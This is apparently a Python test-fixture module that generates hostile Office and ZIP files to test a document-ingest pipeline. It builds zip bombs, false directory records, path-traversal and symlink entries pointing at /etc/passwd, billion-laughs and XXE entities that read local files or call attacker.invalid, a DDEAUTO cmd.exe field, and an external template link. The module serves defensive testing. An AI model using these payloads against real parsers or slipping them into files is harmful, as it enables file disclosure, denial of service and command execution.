"""Office files and ZIP archives: bombs, directories that lie, names that climb, XML that swells, sheets without end."""

from __future__ import annotations

import functools
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime
from io import BytesIO

import docx
import pptx
import xlsxwriter
from pptx.util import Inches

from evidence.ingest.triage import MediaType
from evidence.ingest.warming_samples import samples
from tests.hostile.files import (
    DAMAGED,
    EMPTY,
    GIVES_NOTHING,
    HAS_TEXT,
    LARGE,
    LOCKED,
    MEBIBYTE,
    PARTLY,
    READ,
    TURNED_AWAY,
    Hostile,
    Part,
    bomb_part,
    packed_as_they_are,
    part_of,
    with_large_end,
    with_parts,
)

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DOCUMENT, SHEET_1, SLIDE_1 = "word/document.xml", "xl/worksheets/sheet1.xml", "ppt/slides/slide1.xml"
DAMAGED_OR_LARGE = frozenset({DAMAGED, LARGE})
SOME_TEXT_OR_NONE = frozenset({READ, PARTLY, EMPTY, DAMAGED, LARGE})

XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


def hostile_packages() -> Iterator[Hostile]:
    """One file for each trick."""
    for threat, ends, tricks in (
        ("T6", frozenset({DAMAGED, LARGE}), UNPACKING),
        ("T8", TURNED_AWAY | GIVES_NOTHING, DIRECTORIES),
        ("T9", HAS_TEXT | TURNED_AWAY, NAMES),
        ("T7", frozenset({DAMAGED, LARGE}), ENTITIES),
        ("T5", SOME_TEXT_OR_NONE, SHEETS),
        ("T5", SOME_TEXT_OR_NONE, DEEP),
    ):
        for name, make in tricks.items():
            yield Hostile(name, threat, make(), ends)
    yield Hostile(
        "a comment longer than the file.docx", "T8", _with_end(_says_a_long_comment)(), HAS_TEXT | TURNED_AWAY
    )
    for name in ("macros.docx", "macros.docm"):
        parts = {"word/vbaProject.bin": b"x" + name.encode()}
        yield Hostile(name, "T11", with_parts(good_docx(), parts), frozenset({READ}), "macros")
    yield Hostile("a type of 64 MB packed by blocks.ods", "T8", _type_at_length(zipfile.ZIP_BZIP2), DAMAGED_OR_LARGE)
    yield Hostile("a type of 64 MB with a range coder.ods", "T8", _type_at_length(zipfile.ZIP_LZMA), DAMAGED_OR_LARGE)
    yield Hostile("one entry said, and 60,000.docx", "T8", _hidden_entries(), frozenset({LARGE}), "5,000 parts")
    yield Hostile("an end of 64 bits.docx", "T8", with_large_end(good_docx()), frozenset({READ}))
    yield Hostile(
        "laughs under another name.docx", "T7", _main_part_elsewhere(), frozenset({DAMAGED}), "document type definition"
    )
    yield Hostile(
        "a title turned round.docx", "T9", _with_a_title("\u202eteg\u2066 =1+1 <script>\n\x9b31m**Minutes**"), HAS_TEXT
    )
    yield Hostile("locked parts.docx", "T11", _with_locked_parts(), frozenset({LOCKED}))
    yield Hostile("a link to a program.docx", "T11", _word_body(_DDE), HAS_TEXT, "DDE")
    yield Hostile(
        "an object inside.docx",
        "T11",
        with_parts(good_docx(), {"word/embeddings/oleObject1.bin": b"x"}),
        HAS_TEXT,
        "embedded objects",
    )


@functools.cache
def good_docx() -> bytes:
    """A sound Word document."""
    document, content = docx.Document(), BytesIO()
    document.add_heading("Audit of annual reviews (synthetic)", level=1)
    document.add_paragraph("Forty plans were read by two auditors.")
    document.add_table(rows=2, cols=2).cell(0, 0).text = "Locality"
    document.save(content)
    return _without_dates(content.getvalue())


@functools.cache
def good_xlsx() -> bytes:
    """A sound workbook."""
    content = BytesIO()
    with xlsxwriter.Workbook(content, {"in_memory": True}) as workbook:
        workbook.set_properties({"created": datetime(1980, 1, 1)})  # noqa: DTZ001 - the format has no time zone
        sheet = workbook.add_worksheet("Reviews")
        for row in range(20):
            sheet.write_row(row, 0, [f"Quarter {row} (synthetic)", row, row / 8])
    return content.getvalue()


@functools.cache
def good_pptx() -> bytes:
    """A sound slide deck."""
    deck, content = pptx.Presentation(), BytesIO()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = "Reviews by locality (synthetic)"
    slide.shapes.add_table(2, 2, 0, 0, Inches(3), Inches(2))
    deck.save(content)
    return _without_dates(content.getvalue())


@functools.cache
def good_ods() -> bytes:
    """A sound OpenDocument spreadsheet."""
    return _without_dates(samples("Reviews by locality (synthetic)")[MediaType.ODS])


def _without_dates(package: bytes) -> bytes:
    """Packed as on every other day, so that the same seed damages the same bytes."""
    return with_parts(package, {})


def _part(package: bytes, name: str) -> str:
    with zipfile.ZipFile(BytesIO(package)) as held:
        return held.read(name).decode()


def _word_body(body: str, *, before: str = "") -> bytes:
    xml = f'{XML_HEAD}{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return with_parts(good_docx(), {DOCUMENT: xml.encode()})


def _sheet(rows: str, *, before: str = "", after: str = "") -> bytes:
    xml = f'{XML_HEAD}<worksheet xmlns="{SHEET}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'
    return with_parts(good_xlsx(), {SHEET_1: xml.encode()})


def _with_a_title(title: str) -> bytes:
    document, content = docx.Document(BytesIO(good_docx())), BytesIO()
    document.core_properties.title = title
    document.save(content)
    return _without_dates(content.getvalue())


_PARAGRAPH = "<w:p><w:r><w:t>All of it synthetic</w:t></w:r></w:p>"
_DDE = f"<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>{_PARAGRAPH}"


def _bomb(package: bytes, name: str, megabytes: int, *, says_bytes: int | None = None) -> Callable[[], bytes]:
    return lambda: with_parts(package, {name: bomb_part(name, b" " * MEBIBYTE, megabytes, says_bytes=says_bytes)})


UNPACKING: dict[str, Callable[[], bytes]] = {
    "a document of 600 MB.docx": _bomb(good_docx(), DOCUMENT, 600),
    "a document of 600 MB that says it is small.docx": _bomb(good_docx(), DOCUMENT, 600, says_bytes=2_000),
    "a document of 600 MB that says it is 4 GB.docx": _bomb(good_docx(), DOCUMENT, 600, says_bytes=0xFFFFFFFF),
    "a document of 50 MB of blanks.docx": _bomb(good_docx(), DOCUMENT, 50),
    "styles of 600 MB.docx": _bomb(good_docx(), "word/styles.xml", 600),
    "a sheet of 600 MB.xlsx": _bomb(good_xlsx(), SHEET_1, 600),
    "a sheet of 600 MB that says it is small.xlsx": _bomb(good_xlsx(), SHEET_1, 600, says_bytes=2_000),
    "texts of 600 MB.xlsx": _bomb(good_xlsx(), "xl/sharedStrings.xml", 600),
    "a slide of 600 MB.pptx": _bomb(good_pptx(), SLIDE_1, 600),
    "contents of 600 MB.ods": _bomb(good_ods(), "content.xml", 600),
    "contents of 600 MB that say they are small.ods": _bomb(good_ods(), "content.xml", 600, says_bytes=2_000),
}


def _overlapping() -> bytes:
    kernel = bomb_part(DOCUMENT, b"<a/>" * 250_000, 8)
    others = (
        Part(b"word/%d.xml" % number, b"", kernel.method, kernel.says_bytes, len(kernel.content), kernel.checksum, at=0)
        for number in range(1_000)
    )
    return packed_as_they_are([kernel, *others])


def _hundred_thousand_entries() -> bytes:
    return packed_as_they_are([part_of(DOCUMENT, b"<a/>"), *(Part(b"%d" % number) for number in range(100_000))])


def _ten_thousand_entries() -> bytes:
    return packed_as_they_are(Part(b"%d" % number) for number in range(10_000))


def _archive_in_archive() -> bytes:
    inner = packed_as_they_are([bomb_part("0", b"\0" * MEBIBYTE, 64)])
    for level in range(16):
        inner = packed_as_they_are([part_of(f"{level}.zip", inner)])
    return inner


def _with_end(change: Callable[[bytearray, int], None], *, comment: bytes = b"") -> Callable[[], bytes]:
    def make() -> bytes:
        content = bytearray(good_docx() + comment)
        change(content, content.rindex(b"PK\x05\x06"))
        return bytes(content)

    return make


def _says_directory_of_4_gb(content: bytearray, end: int) -> None:
    content[end + 12 : end + 16] = b"\xff\xff\xff\xff"


def _says_directory_elsewhere(content: bytearray, end: int) -> None:
    content[end + 16 : end + 20] = b"\xff\xff\xff\x7f"


def _says_sixty_thousand(content: bytearray, end: int) -> None:
    content[end + 8 : end + 12] = b"\xff\xff\xff\xff"


def _says_a_long_comment(content: bytearray, end: int) -> None:
    content[end + 20 : end + 22] = b"\xff\xff"


def _method(method: int) -> Callable[[], bytes]:
    return lambda: with_parts(good_docx(), {DOCUMENT: Part(DOCUMENT.encode(), b"x" * 99, method, 99)})


def _twice() -> bytes:
    other = f'<w:document xmlns:w="{WORD}"><w:body>{_PARAGRAPH}</w:body></w:document>'.encode()
    with zipfile.ZipFile(BytesIO(good_docx())) as old:
        parts = [part_of(name, old.read(name)) for name in old.namelist()]
    return packed_as_they_are([*parts, part_of(DOCUMENT, other)])


def _sixty_four_bits() -> bytes:
    record = b"PK\x06\x06" + (44).to_bytes(8, "little") + bytes(4) + b"\xff" * 40
    where = b"PK\x06\x07" + bytes(4) + (100).to_bytes(8, "little") + b"\1\0\0\0"
    return good_docx()[:-22] + record + where + b"PK\x05\x06" + bytes(4) + b"\xff" * 12 + bytes(2)


DIRECTORIES: dict[str, Callable[[], bytes]] = {
    "a thousand entries on the same bytes.docx": _overlapping,
    "a hundred thousand entries.docx": _hundred_thousand_entries,
    "ten thousand entries.zip": _ten_thousand_entries,
    "archives in archives.zip": _archive_in_archive,
    "archives in archives.docx": _archive_in_archive,
    "a directory of 4 GB said.docx": _with_end(_says_directory_of_4_gb),
    "a directory elsewhere.docx": _with_end(_says_directory_elsewhere),
    "sixty thousand entries said.docx": _with_end(_says_sixty_thousand),
    "a directory of 64 bits.docx": _sixty_four_bits,
    "a packing nobody knows.docx": _method(99),
    "a packing with a range coder.docx": _method(zipfile.ZIP_LZMA),
    "no document in it.docx": lambda: with_parts(good_docx(), {DOCUMENT: None}),
    "only an end.docx": lambda: b"PK\x05\x06" + bytes(18),
    "only a beginning.xlsx": lambda: b"PK\x03\x04",
    "cut in the middle.xlsx": lambda: good_xlsx()[: len(good_xlsx()) // 2],
}


def _with_entry(name: bytes, *, mode: int = 0o100644, content: bytes = b"owned") -> Callable[[], bytes]:
    key = name.decode("latin-1")
    return lambda: with_parts(good_docx(), {key: Part(name, content, mode=mode)})


NAMES: dict[str, Callable[[], bytes]] = {
    "an entry that climbs.docx": _with_entry(b"../../../../../../tmp/hostile-owned"),
    "an entry that climbs backwards.docx": _with_entry(rb"..\..\..\..\hostile-owned"),
    "an entry at the root.docx": _with_entry(b"/tmp/hostile-owned"),
    "an entry on a drive.docx": _with_entry(rb"C:\hostile-owned"),
    "an entry on a share.docx": _with_entry(rb"\\attacker.invalid\hostile-owned"),
    "an entry that is a link.docx": _with_entry(b"word/media/a.png", mode=0o120777, content=b"/etc/passwd"),
    "an entry that is a pipe.docx": _with_entry(b"word/media/a.png", mode=0o010644),
    "an entry that is a device.docx": _with_entry(b"word/media/a.png", mode=0o020644),
    "an entry with a nought in its name.docx": _with_entry(b"word/document.xml\0.png"),
    "an entry with no name.docx": _with_entry(b""),
    "an entry of a long name.docx": _with_entry(b"a" * 60_000),
    "an entry of a reserved name.docx": _with_entry(b"word/media/CON"),
    "an entry of a device's name.docx": _with_entry(b"NUL"),
    "an entry with a name turned round.docx": _with_entry("word/\u202egnp.exe".encode()),
    "the document twice.docx": _twice,
    "an entry differing in case.docx": _with_entry(b"WORD/DOCUMENT.XML"),
}

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHTER = f'<!DOCTYPE a [<!ENTITY l0 "ha">{_LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE a [<!ENTITY l9 "{"a" * 100_000}">]>'
FETCHED = '<!DOCTYPE a [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'
CALLED = '<!DOCTYPE a [<!ENTITY l9 SYSTEM "http://attacker.invalid/">]>'
ELSEWHERE = '<!DOCTYPE a SYSTEM "http://attacker.invalid/a.dtd">'
PARAMETERS = '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY l9 "a"> %p;]>'
ENTITY = "<w:p><w:r><w:t>LEAK[&l9;]</w:t></w:r></w:p>"


def _declared_in(package: bytes, name: str) -> Callable[[], bytes]:
    """A package whose part of this name has a document type definition before its first element."""

    def make() -> bytes:
        head, tail = _part(package, name).split("?>", 1)
        return with_parts(package, {name: f"{head}?>{LAUGHTER}{tail}".encode()})

    return make


def _in_sixteen_bits() -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHTER}<w:document xmlns:w="{WORD}">'
    xml = f"{head}<w:body>{ENTITY}</w:body></w:document>"
    return with_parts(good_docx(), {DOCUMENT: xml.encode("utf-16")})


ENTITIES: dict[str, Callable[[], bytes]] = {
    "a billion laughs.docx": lambda: _word_body(ENTITY, before=LAUGHTER),
    "one entity many times.docx": lambda: _word_body(ENTITY * 5_000, before=QUADRATIC),
    "an entity from a file.docx": lambda: _word_body(ENTITY, before=FETCHED),
    "an entity from elsewhere.docx": lambda: _word_body(ENTITY, before=CALLED),
    "a definition elsewhere.docx": lambda: _word_body(_PARAGRAPH, before=ELSEWHERE),
    "an entity of entities.docx": lambda: _word_body(ENTITY, before=PARAMETERS),
    "laughs in sixteen bits.docx": _in_sixteen_bits,
    "laughs in the styles.docx": _declared_in(good_docx(), "word/styles.xml"),
    "laughs in the types.docx": _declared_in(good_docx(), "[Content_Types].xml"),
    "laughs in the relations.docx": _declared_in(good_docx(), "_rels/.rels"),
    "laughs in a sheet.xlsx": _declared_in(good_xlsx(), SHEET_1),
    "laughs in the texts.xlsx": _declared_in(good_xlsx(), "xl/sharedStrings.xml"),
    "laughs in the workbook.xlsx": _declared_in(good_xlsx(), "xl/workbook.xml"),
    "laughs in a slide.pptx": _declared_in(good_pptx(), SLIDE_1),
    "laughs in the contents.ods": lambda: with_parts(
        good_ods(), {"content.xml": (LAUGHTER + _part(good_ods(), "content.xml").split("?>")[-1]).encode()}
    ),
    "a document of a million levels.docx": lambda: _word_body("<w:p>" * 1_000_000),
}


def _text_cell(place: str, words: str = "synthetic") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


def _texts_named_often() -> bytes:
    texts = f'{XML_HEAD}<sst xmlns="{SHEET}" count="2000000000" uniqueCount="1"><si><t>{"a" * MEBIBYTE}</t></si></sst>'
    rows = "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>' for row in range(1, 20_001))
    xml = f'{XML_HEAD}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'
    return with_parts(good_xlsx(), {"xl/sharedStrings.xml": texts.encode(), SHEET_1: xml.encode()})


def _many_texts() -> bytes:
    texts = f'{XML_HEAD}<sst xmlns="{SHEET}">{"<si><t>a</t></si>" * 1_000_000}</sst>'
    return with_parts(good_xlsx(), {"xl/sharedStrings.xml": texts.encode()})


def _repeated(rows: int, columns: int) -> Callable[[], bytes]:
    def make() -> bytes:
        contents = _part(good_ods(), "content.xml")
        contents = contents.replace(
            "<table:table-row", f'<table:table-row table:number-rows-repeated="{rows}"', 1
        ).replace("<table:table-cell", f'<table:table-cell table:number-columns-repeated="{columns}"', 1)
        return with_parts(good_ods(), {"content.xml": contents.encode()})

    return make


SHEETS: dict[str, Callable[[], bytes]] = {
    "one cell at the far corner.xlsx": lambda: _sheet(f'<row r="1048576">{_text_cell("XFD1048576")}</row>'),
    "two cells at the corners.xlsx": lambda: _sheet(
        f'<row r="1">{_text_cell("A1")}</row><row r="1048576">{_text_cell("XFD1048576")}</row>'
    ),
    "a cell beyond the sheet.xlsx": lambda: _sheet(f'<row r="99999999">{_text_cell("ZZZZZ99999999")}</row>'),
    "three million cells.xlsx": lambda: _sheet(("<row>" + "<c><v>1</v></c>" * 100 + "</row>") * 30_000),
    "a million empty rows.xlsx": lambda: _sheet("<row/>" * 1_000_000),
    "a million rows that are one.xlsx": lambda: _sheet(f'<row r="1">{_text_cell("A1")}</row>' * 100_000),
    "a size of the whole sheet said.xlsx": lambda: _sheet(
        f'<row r="1">{_text_cell("A1")}</row>', before='<dimension ref="A1:XFD1048576"/>'
    ),
    "all cells merged.xlsx": lambda: _sheet(
        f'<row r="1">{_text_cell("A1")}</row>', after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    ),
    "twenty thousand times the same megabyte.xlsx": _texts_named_often,
    "a million texts.xlsx": _many_texts,
    "a cell of 30 MB.xlsx": lambda: _sheet(f'<row r="1">{_text_cell("A1", "ab " * 10_000_000)}</row>'),
    "a thousand million rows.ods": _repeated(1_000_000_000, 1),
    "a thousand million columns.ods": _repeated(1, 1_000_000_000),
    "a million million million cells.ods": _repeated(10**9, 10**9),
    "minus one row.ods": _repeated(-1, -1),
}


def _shapes() -> bytes:
    slide = _part(good_pptx(), SLIDE_1)
    first, last = slide.index("<p:sp>"), slide.index("</p:sp>") + len("</p:sp>")
    return with_parts(good_pptx(), {SLIDE_1: (slide[:first] + slide[first:last] * 100_000 + slide[last:]).encode()})


def _groups() -> bytes:
    slide = _part(good_pptx(), SLIDE_1)
    at = slide.index("<p:sp>")
    group = "<p:grpSp><p:nvGrpSpPr/><p:grpSpPr/>"
    deep = slide[:at] + group * 200 + slide[at:].replace("</p:spTree>", "</p:grpSp>" * 200 + "</p:spTree>")
    return with_parts(good_pptx(), {SLIDE_1: deep.encode()})


def _slides_many_times() -> bytes:
    deck = _part(good_pptx(), "ppt/presentation.xml")
    at = deck.index("<p:sldId ")
    one = deck[at : deck.index("/>", at) + 2]
    return with_parts(good_pptx(), {"ppt/presentation.xml": deck.replace(one, one * 50_000).encode()})


def _relations_in_a_circle() -> bytes:
    relations = "ppt/slides/_rels/slide1.xml.rels"
    changed = _part(good_pptx(), relations).replace("../slideLayouts/slideLayout6.xml", "../slides/slide1.xml")
    master = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    round_again = _part(good_pptx(), master).replace("../theme/theme1.xml", "../slideMasters/slideMaster1.xml")
    return with_parts(good_pptx(), {relations: changed.encode(), master: round_again.encode()})


def _relation_to_elsewhere() -> bytes:
    relations = "word/_rels/document.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    one = f'<Relationship Id="x1" Type="{kind}" Target="http://attacker.invalid/" TargetMode="External"/>'
    changed = _part(good_docx(), relations).replace("</Relationships>", f"{one}</Relationships>")
    return with_parts(good_docx(), {relations: changed.encode()})


def _tables_in_tables(levels: int) -> Callable[[], bytes]:
    opening = "<w:tbl><w:tr><w:tc>"
    closing = "</w:tc></w:tr></w:tbl>"
    return lambda: _word_body(opening * levels + _PARAGRAPH + f"{closing}<w:p/>" * levels)


DEEP: dict[str, Callable[[], bytes]] = {
    "a hundred thousand shapes.pptx": _shapes,
    "groups 200 deep.pptx": _groups,
    "the same slide fifty thousand times.pptx": _slides_many_times,
    "relations in a circle.pptx": _relations_in_a_circle,
    "a relation to elsewhere.docx": _relation_to_elsewhere,
    "tables 60 deep.docx": _tables_in_tables(60),
    "tables 2,000 deep.docx": _tables_in_tables(2_000),
    "half a million paragraphs.docx": lambda: _word_body(_PARAGRAPH * 500_000),
    "a table with a million cells.docx": lambda: _word_body(
        "<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 100 + "</w:tr>") * 10_000 + "</w:tbl>"
    ),
    "a cell over a million columns.docx": lambda: _word_body(
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr>{_PARAGRAPH}</w:tc></w:tr></w:tbl>'
    ),
    "a paragraph of a million runs.docx": lambda: _word_body(
        "<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 1_000_000 + "</w:p>"
    ),
    "controls 200 deep.docx": lambda: _word_body(
        "<w:sdt><w:sdtContent>" * 100 + _PARAGRAPH + "</w:sdtContent></w:sdt>" * 100
    ),
}


def _type_at_length(method: int) -> bytes:
    content = BytesIO()
    with zipfile.ZipFile(content, "w") as package:
        package.writestr("mimetype", MediaType.ODS.encode() + b" " * 64 * MEBIBYTE, compress_type=method)
        package.writestr("content.xml", _part(good_ods(), "content.xml"))
    return content.getvalue()


def _hidden_entries() -> bytes:
    with zipfile.ZipFile(BytesIO(good_docx())) as old:
        parts = [part_of(name, old.read(name)) for name in old.namelist()]
    many = packed_as_they_are([*parts, *(Part(b"%d" % number) for number in range(60_000))])
    return with_large_end(many, says_entries=1)


def _main_part_elsewhere() -> bytes:
    """The part that is read is told by relation and type; the one whose name everybody knows is there as well."""
    definition = '<!DOCTYPE a [<!ENTITY l9 "MARK">]>'
    body = f'{XML_HEAD}{definition}<w:document xmlns:w="{WORD}"><w:body>{ENTITY}</w:body></w:document>'
    relations = "word/_rels/document.xml.rels"
    return with_parts(
        good_docx(),
        {
            "word/main.dat": body.encode(),
            "word/_rels/main.dat.rels": _part(good_docx(), relations).encode(),
            "_rels/.rels": _part(good_docx(), "_rels/.rels").replace(DOCUMENT, "word/main.dat").encode(),
            "[Content_Types].xml": _part(good_docx(), "[Content_Types].xml")
            .replace(DOCUMENT, "word/main.dat")
            .encode(),
        },
    )


def _with_locked_parts() -> bytes:
    return with_parts(good_docx(), {DOCUMENT: Part(DOCUMENT.encode(), b"x" * 99, 0, 99, flags=1)})
